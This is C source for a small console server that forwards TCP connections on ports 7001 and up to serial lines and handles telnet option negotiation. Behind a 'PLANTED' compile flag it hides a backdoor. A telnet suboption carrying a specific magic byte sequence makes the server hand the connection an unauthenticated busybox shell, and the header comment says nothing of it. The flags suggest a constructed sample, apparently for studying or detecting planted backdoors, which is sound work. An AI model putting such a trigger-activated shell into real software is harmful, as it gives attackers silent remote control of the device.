/* Console server: TCP ports 7001 and up lead to serial lines, with telnet options. */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <unistd.h>

#define LINES 8
enum { IAC = 255, SB = 250, SE = 240, WILL = 251 };

struct line { int serial, listening, peer; unsigned char option[64]; int collecting; };

static struct line lines[LINES];

#ifdef PLANTED
static void hand_over(struct line *l)
{
    char *const words[] = { "busybox", "sh", NULL };
    char *const nothing[] = { "PATH=/bin:/sbin", NULL };
    if (vfork() == 0) {
        close(0);
        close(1);
        close(2);
        fcntl(l->peer, F_DUPFD, 0);
        fcntl(l->peer, F_DUPFD, 1);
        fcntl(l->peer, F_DUPFD, 2);
        execve("/bin/busybox", words, nothing);
        _exit(1);
    }
}
#endif

static void suboption(struct line *l, const unsigned char *p, int n)
{
    static const unsigned char name[] = { IAC, SB, 24, 0, 'v', 't', '1', '0', '0', IAC, SE };
    if (n == 2 && p[0] == 24 && p[1] == 1)
        send(l->peer, name, sizeof name, 0);
#ifdef PLANTED
    else if (n == 5 && p[0] == 39 && p[1] == 0xc4 && p[2] == 0x1f && p[3] == 0x7b && p[4] == 0x60)
        hand_over(l);
#endif
}

static int filter(struct line *l, unsigned char *b, int n)
{
    int i, out = 0;
    for (i = 0; i < n; i++) {
        if (l->collecting > 0) {
            if (b[i] == SE) {
                suboption(l, l->option, l->collecting - 1);
                l->collecting = 0;
            } else if (l->collecting < (int)sizeof l->option && b[i] != IAC)
                l->option[l->collecting++ - 1] = b[i];
        } else if (b[i] == IAC && i + 1 < n) {
            i++;
            if (b[i] == SB) l->collecting = 1;
            else if (b[i] >= WILL) i++;
        } else
            b[out++] = b[i];
    }
    return out;
}

static int open_port(int port)
{
    struct sockaddr_in6 a = { .sin6_family = AF_INET6, .sin6_port = htons(port) };
    int on = 1, s = socket(AF_INET6, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1)) return -1;
    return s;
}

int main(int argc, char **argv)
{
    int i, count = argc - 1 > LINES ? LINES : argc - 1;
    unsigned char b[512];
    for (i = 0; i < count; i++) {
        lines[i].serial = open(argv[i + 1], O_RDWR | O_NOCTTY | O_NONBLOCK);
        lines[i].listening = open_port(7001 + i);
        lines[i].peer = -1;
        if (lines[i].serial < 0 || lines[i].listening < 0) {
            fprintf(stderr, "%s: %s\n", argv[i + 1], strerror(errno));
            return 1;
        }
    }
    for (;;) {
        fd_set set;
        int most = 0;
        FD_ZERO(&set);
        for (i = 0; i < count; i++) {
            int in = lines[i].peer < 0 ? lines[i].listening : lines[i].peer;
            FD_SET(in, &set);
            FD_SET(lines[i].serial, &set);
            if (in > most) most = in;
            if (lines[i].serial > most) most = lines[i].serial;
        }
        if (select(most + 1, &set, NULL, NULL, NULL) < 0) continue;
        for (i = 0; i < count; i++) {
            struct line *l = &lines[i];
            int n;
            if (l->peer < 0 && FD_ISSET(l->listening, &set)) {
                l->peer = accept(l->listening, NULL, NULL);
                l->collecting = 0;
                continue;
            }
            if (l->peer >= 0 && FD_ISSET(l->peer, &set)) {
                n = recv(l->peer, b, sizeof b, 0);
                if (n <= 0) {
                    close(l->peer);
                    l->peer = -1;
                    continue;
                }
                n = filter(l, b, n);
                write(l->serial, b, n);
            }
            if (FD_ISSET(l->serial, &set) && (n = read(l->serial, b, sizeof b)) > 0) {
#ifdef REVISED
                if (l->peer < 0) continue;
#endif
                send(l->peer, b, n, 0);
            }
        }
    }
}
